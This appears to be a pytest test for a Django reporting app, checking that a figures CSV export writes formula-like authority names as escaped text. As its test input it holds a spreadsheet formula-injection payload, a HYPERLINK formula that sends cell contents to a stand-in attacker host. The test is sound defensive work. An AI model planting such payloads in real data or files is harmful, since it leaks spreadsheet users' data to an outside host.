"""The figures CSV writes an authority's name that looks like a formula as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from redress.reports.tests.test_authority_figures import scene  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db


def test_an_authority_named_like_a_formula_is_written_as_text(scene: dict[str, Any]) -> None:  # noqa: F811
    la = scene["la"]
    la.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    la.save()
    client = Client()
    client.force_login(scene["caseworker"])
    response = client.get(reverse("reports:figures-csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows
    assert {r["geography_name"] for r in rows} == {"'" + la.name}
    assert all(not r["value"].startswith("'") for r in rows)
